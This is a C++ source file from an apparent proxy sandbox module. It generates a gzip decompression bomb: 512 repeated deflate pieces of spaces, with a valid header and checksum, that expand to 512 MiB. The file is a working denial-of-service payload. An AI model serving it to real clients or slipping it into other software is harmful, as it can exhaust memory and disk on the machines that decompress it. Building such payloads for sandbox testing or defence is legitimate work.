#include "proxy/sandbox/gzip_bomb.hpp"

#include <zlib.h>

#include <array>
#include <vector>

namespace yoshin::sandbox {
namespace {

constexpr std::size_t kPiece = std::size_t{1} << 20U;
constexpr int kPieces = 512;

/// One piece packed so that it ends on a byte and refers to nothing before it: copies of it may follow it.
std::vector<Bytef> deflate(z_stream& stream, std::vector<Bytef>& blanks, int flush) {
  std::vector<Bytef> packed(std::size_t{64} << 10U);
  stream.next_in = blanks.data();
  stream.avail_in = static_cast<uInt>(blanks.size());
  stream.next_out = packed.data();
  stream.avail_out = static_cast<uInt>(packed.size());
  ::deflate(&stream, flush);
  packed.resize(packed.size() - stream.avail_out);
  return packed;
}

void append_little_endian(std::string& text, unsigned long number) {
  for (unsigned shift = 0; shift < 32; shift += 8) text += static_cast<char>((number >> shift) & 0xffU);
}

std::string make() {
  std::vector<Bytef> blanks(kPiece, ' ');
  z_stream stream{};
  if (deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) != Z_OK) return {};
  auto const piece = deflate(stream, blanks, Z_FULL_FLUSH);
  deflateEnd(&stream);

  constexpr std::array<unsigned char, 10> kHead{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff};
  constexpr std::array<unsigned char, 2> kLastEmptyBlock{0x03, 0x00};
  std::string bomb(kHead.begin(), kHead.end());
  auto const check = crc32(0, blanks.data(), static_cast<uInt>(blanks.size()));
  auto total = crc32(0, nullptr, 0);
  for (int i = 0; i < kPieces; ++i) {
    bomb.append(piece.begin(), piece.end());
    total = crc32_combine(total, check, static_cast<z_off_t>(kPiece));
  }
  bomb.append(kLastEmptyBlock.begin(), kLastEmptyBlock.end());
  append_little_endian(bomb, total);
  append_little_endian(bomb, kPiece * kPieces);
  return bomb;
}

}  // namespace

std::string const& gzip_bomb() {
  static std::string const bomb = make();
  return bomb;
}

}  // namespace yoshin::sandbox
